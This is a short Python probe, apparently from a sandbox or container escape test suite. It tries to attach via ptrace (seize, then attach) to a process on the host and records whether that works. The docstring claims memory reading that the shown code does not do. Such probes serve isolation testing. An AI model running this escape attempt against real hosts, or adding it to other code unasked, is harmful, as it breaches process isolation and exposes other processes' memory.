"""Attaches to a process of the host as a debugger and reads its memory."""

import ctypes

from attacker import got, host, libc, tried

UNPROTECTED = "escapes"
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206

libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
tried(host["victim"])
for request in (PTRACE_SEIZE, PTRACE_ATTACH):
    if libc.ptrace(request, host["victim"], None, None) == 0:
        got(f"ptrace({request:#x}) of the host's process")
